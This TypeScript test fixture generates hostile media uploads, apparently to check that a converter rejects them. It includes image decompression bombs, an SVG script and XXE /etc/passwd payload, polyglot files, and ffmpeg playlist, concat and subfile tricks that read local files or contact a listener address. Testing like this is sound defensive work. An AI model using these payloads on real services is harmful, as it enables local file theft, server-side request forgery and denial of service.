// Hostile media: pictures of 30,000 × 30,000, films that are scripts for the converter, and files of two formats at once.
import { deflateSync } from 'node:zlib'
import { film, song } from '../media.ts'
import type { Hostile } from './hostile-documents.ts'

const side = 30_000
const text = (content: string) => Buffer.from(content, 'utf8')
const numbers = (bytes: number, endian: 'LE' | 'BE', ...list: number[]): Buffer =>
  Buffer.concat(
    list.map((one) => {
      const buffer = Buffer.alloc(bytes)
      if (endian === 'LE') buffer.writeUIntLE(one, 0, bytes)
      else buffer.writeUIntBE(one, 0, bytes)
      return buffer
    }),
  )
const chunk = (name: string, data: Buffer) => Buffer.concat([numbers(4, 'BE', data.length), Buffer.from(name), data, Buffer.alloc(4)])
const pngHead = (width: number, height: number) =>
  Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', Buffer.concat([numbers(4, 'BE', width, height), Buffer.from([1, 0, 0, 0, 0])])),
  ])

/** The name describes the content; `tooLarge` pictures must not be shown as pictures. */
export const pictures = (): (Hostile & { tooLarge?: boolean })[] => [
  {
    name: 'large.png',
    about: 'a PNG of 30,000 × 30,000',
    tooLarge: true,
    bytes: Buffer.concat([
      pngHead(side, side),
      chunk('IDAT', deflateSync(Buffer.alloc(side * (side / 8 + 1)))),
      chunk('IEND', Buffer.alloc(0)),
    ]),
  },
  {
    name: 'wide.png',
    about: 'a PNG of 2,147,483,647 × 1',
    tooLarge: true,
    bytes: Buffer.concat([pngHead(2_147_483_647, 1), chunk('IEND', Buffer.alloc(0))]),
  },
  {
    name: 'large.jpg',
    about: 'a JPEG of 30,000 × 30,000',
    tooLarge: true,
    bytes: Buffer.concat([
      Buffer.from('ffd8ffc0001108', 'hex'),
      numbers(2, 'BE', side, side),
      Buffer.from('03012200021101031101ffd9', 'hex'),
    ]),
  },
  {
    name: 'large.gif',
    about: 'a GIF of 30,000 × 30,000',
    tooLarge: true,
    bytes: Buffer.concat([
      text('GIF89a'),
      numbers(2, 'LE', side, side),
      Buffer.from('0000002c', 'hex'),
      numbers(2, 'LE', 0, 0, side, side),
      Buffer.from('00023b', 'hex'),
    ]),
  },
  {
    name: 'large.webp',
    about: 'a WebP of 30,000 × 30,000',
    tooLarge: true,
    bytes: Buffer.concat([
      text('RIFF'),
      numbers(4, 'LE', 22),
      text('WEBPVP8X'),
      numbers(4, 'LE', 10, 0),
      numbers(3, 'LE', side - 1, side - 1),
    ]),
  },
  {
    name: 'large.bmp',
    about: 'a BMP of 30,000 × 30,000',
    tooLarge: true,
    bytes: Buffer.concat([text('BM'), numbers(4, 'LE', 54, 0, 54, 40, side, side), numbers(2, 'LE', 1, 24), Buffer.alloc(24)]),
  },
  {
    name: 'large.tiff',
    about: 'a TIFF of 30,000 × 30,000',
    tooLarge: true,
    bytes: Buffer.concat([
      Buffer.from('49492a0008000000', 'hex'),
      numbers(2, 'LE', 2),
      numbers(2, 'LE', 256, 4),
      numbers(4, 'LE', 1, side),
      numbers(2, 'LE', 257, 4),
      numbers(4, 'LE', 1, side, 0),
    ]),
  },
  {
    name: 'loop.tiff',
    about: 'a TIFF whose directory follows itself',
    bytes: Buffer.concat([Buffer.from('49492a0008000000', 'hex'), numbers(2, 'LE', 0), numbers(4, 'LE', 8)]),
  },
  {
    name: 'large.svg',
    about: 'an SVG of 30,000 × 30,000',
    bytes: text(`<svg xmlns="http://www.w3.org/2000/svg" width="${side}" height="${side}"><rect width="100%" height="100%"/></svg>`),
  },
  {
    name: 'script.svg',
    about: 'an SVG with script',
    bytes: text(
      '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=1;alert(1);fetch("/api/session")</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="window.__pwned=1"/></body></foreignObject></svg>',
    ),
  },
  {
    name: 'uses.svg',
    about: 'an SVG that uses itself a billion times',
    bytes: text(
      `<svg xmlns="http://www.w3.org/2000/svg"><g id="a0"><rect width="1" height="1"/></g>${Array.from({ length: 9 }, (_, n) => `<g id="a${n + 1}">${`<use href="#a${n}"/>`.repeat(10)}</g>`).join('')}</svg>`,
    ),
  },
  {
    name: 'entity.svg',
    about: 'an SVG with an outside entity',
    bytes: text(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    ),
  },
  { name: 'page.png', about: 'HTML called a picture', bytes: text('<html><script>window.__pwned=1</script></html>') },
  { name: 'both.gif', about: 'a GIF that is JavaScript', bytes: text('GIF89a/*\0\0\0\0*/=1;window.__pwned=1;') },
  {
    name: 'both.jpg',
    about: 'a JPEG with a page in its comment',
    bytes: Buffer.concat([
      Buffer.from('ffd8fffe0040', 'hex'),
      text('<script>window.__pwned=1</script>'.padEnd(62)),
      Buffer.from('ffd9', 'hex'),
    ]),
  },
  {
    name: 'both.png',
    about: 'a PNG with a page behind its end',
    bytes: Buffer.concat([pngHead(1, 1), chunk('IEND', Buffer.alloc(0)), text('<script>window.__pwned=1</script>')]),
  },
  { name: 'program.png', about: 'a program called a picture', bytes: Buffer.concat([text('MZ'), Buffer.alloc(500)]) },
  { name: 'program.mp4', about: 'a program called a film', bytes: Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(500)]) },
  {
    name: 'broken.png',
    about: 'the first bytes of a PNG and no more',
    bytes: Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(1000, 0xff)]),
  },
  { name: 'one.txt', about: 'one byte', bytes: text('x') },
  { name: 'one.png', about: 'one byte called a picture', bytes: text('x') },
  { name: 'one.mp4', about: 'one byte called a film', bytes: text('x') },
]

/** The converter skips these bytes as a tag; the product's own detection takes the first bytes for a sound. */
const tag = Buffer.from('49443303000000000000', 'hex')
const playlist = (line: string) => text(`#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n${line}\n#EXT-X-ENDLIST\n`)

/** `listener`: an address where a connection is a finding; `secret`: a film of this machine that no upload may show. */
export async function films(listener: string, secret: string): Promise<Hostile[]> {
  const short = await film(6, '320x180')
  const cut = Buffer.from(short)
  const concat = `ffconcat version 1.0\nfile '${secret}'\n`
  const dash = `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT6S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${listener}/dash.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`
  return [
    { name: 'list.mp4', about: 'a playlist of http', bytes: playlist(`${listener}/list.ts`) },
    { name: 'passwd.mp4', about: 'a playlist of file:///etc/passwd', bytes: playlist('file:///etc/passwd') },
    { name: 'tagged-list.mp3', about: 'a playlist of http behind a tag', bytes: Buffer.concat([tag, playlist(`${listener}/tagged.ts`)]) },
    { name: 'tagged-list.mp4', about: 'the same as a film', bytes: Buffer.concat([tag, playlist(`${listener}/tagged.ts`)]) },
    { name: 'tagged-file.mp3', about: 'a playlist of a file of this machine behind a tag', bytes: Buffer.concat([tag, playlist(secret)]) },
    { name: 'tagged-file.mp4', about: 'the same as a film', bytes: Buffer.concat([tag, playlist(`file://${secret}`)]) },
    {
      name: 'tagged-key.mp4',
      about: 'a playlist whose key is at http',
      bytes: Buffer.concat([
        tag,
        text(`#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${listener}/key"\n#EXTINF:6,\n${secret}\n#EXT-X-ENDLIST\n`),
      ]),
    },
    {
      name: 'tagged-join.mp4',
      about: 'concat: of two protocols',
      bytes: Buffer.concat([tag, playlist(`concat:${secret}|${listener}/x.ts`)]),
    },
    {
      name: 'tagged-subfile.mp4',
      about: 'subfile: of a file',
      bytes: Buffer.concat([tag, playlist(`subfile,,start,0,end,99999,,:${secret}`)]),
    },
    { name: 'tagged-dash.mp4', about: 'a DASH manifest behind a tag', bytes: Buffer.concat([tag, text(dash)]) },
    { name: 'tagged-concat.mp3', about: 'a concat script behind a tag', bytes: Buffer.concat([tag, text(concat)]) },
    {
      name: 'tagged-session.mp4',
      about: 'an SDP session behind a tag',
      bytes: Buffer.concat([
        tag,
        text('v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n'),
      ]),
    },
    { name: 'subtitles.avi', about: 'an AVI whose subtitles are a playlist', bytes: aviWith(playlist(`${listener}/gab2.ts`)) },
    { name: 'streams.mkv', about: 'a film of 10,000 streams', bytes: matroska(10_000) },
    { name: 'short.mp4', about: 'a film that ends in its middle', bytes: cut.subarray(0, Math.floor(cut.length / 2)) },
    {
      name: 'noise.mp4',
      about: 'a film with its bytes turned',
      bytes: Buffer.from(short.map((byte, n) => (n > 64 && n % 7 === 0 ? byte ^ 0x55 : byte))),
    },
    {
      name: 'boxes.mp4',
      about: '200,000 boxes in each other',
      bytes: Buffer.concat([
        Buffer.from(short.subarray(0, 32)),
        ...Array.from({ length: 2000 }, (_, n) => Buffer.concat([numbers(4, 'BE', 8 + (2000 - n) * 8), text('moov')])),
      ]),
    },
    { name: 'endless.mp4', about: 'a film that says it lasts for years', bytes: lasting(short) },
    {
      name: 'cover.mp3',
      about: 'a sound whose cover is a page',
      bytes: Buffer.concat([await song(3), text('<script>window.__pwned=1</script>')]),
    },
    {
      name: 'huge.flv',
      about: 'a film of 65,535 × 65,535',
      bytes: Buffer.concat([text('FLV\x01\x05'), numbers(4, 'BE', 9, 0), Buffer.alloc(2000, 0x12)]),
    },
  ]
}

/** The film with the largest possible duration in its header. */
function lasting(bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes)
  const at = copy.indexOf('mvhd')
  if (at > 0) copy.writeUInt32BE(0xfffffffe, at + 4 + 16)
  return copy
}

/** An AVI with a stream of texts, whose only packet is a subtitle file of its own (GAB2). */
function aviWith(subtitles: Buffer): Buffer {
  const riff = (name: string, data: Buffer) =>
    Buffer.concat([text(name), numbers(4, 'LE', data.length), data, Buffer.alloc(data.length % 2)])
  const list = (kind: string, ...parts: Buffer[]) => riff('LIST', Buffer.concat([text(kind), ...parts]))
  const head = riff('avih', Buffer.concat([numbers(4, 'LE', 40_000, 0, 0, 0x10, 1, 0, 2, 0, 320, 180), Buffer.alloc(16)]))
  const streamHead = (kind: string, codec: string) =>
    riff('strh', Buffer.concat([text(kind + codec), numbers(4, 'LE', 0, 0, 0, 1, 25, 0, 1, 0, 0, 0), Buffer.alloc(8)]))
  const video = list(
    'strl',
    streamHead('vids', 'MJPG'),
    riff('strf', Buffer.concat([numbers(4, 'LE', 40, 320, 180), numbers(2, 'LE', 1, 24), text('MJPG'), Buffer.alloc(20)])),
  )
  const texts = list('strl', streamHead('txts', '\0\0\0\0'), riff('strf', Buffer.alloc(4)))
  const packet = Buffer.concat([
    text('GAB2\0'),
    numbers(2, 'LE', 2),
    numbers(4, 'LE', 2),
    text('x\0'),
    numbers(2, 'LE', 4),
    numbers(4, 'LE', subtitles.length),
    subtitles,
  ])
  return riff(
    'RIFF',
    Buffer.concat([
      text('AVI '),
      list('hdrl', head, video, texts),
      list('movi', riff('01tx', packet), riff('00dc', Buffer.from('ffd8ffd9', 'hex'))),
    ]),
  )
}

/** A header and `tracks` tracks, each as small as it can be. */
function matroska(tracks: number): Buffer {
  const size = (length: number) => Buffer.concat([Buffer.from([1, 0, 0]), numbers(5, 'BE', length)])
  const element = (id: string, data: Buffer) => Buffer.concat([Buffer.from(id, 'hex'), size(data.length), data])
  const byte = (value: number) => numbers(2, 'BE', value)
  const track = (n: number) =>
    element(
      'ae',
      Buffer.concat([
        element('d7', byte(n)),
        element('73c5', byte(n)),
        element('83', Buffer.from([1])),
        element('86', text('V_MPEG4/ISO/AVC')),
        element('e0', Buffer.concat([element('b0', byte(320)), element('ba', byte(180))])),
      ]),
    )
  const head = element(
    '1a45dfa3',
    Buffer.concat([element('4282', text('matroska')), element('4287', Buffer.from([4])), element('4285', Buffer.from([2]))]),
  )
  return Buffer.concat([
    head,
    element('18538067', element('1654ae6b', Buffer.concat(Array.from({ length: tracks }, (_, n) => track(n + 1))))),
  ])
}
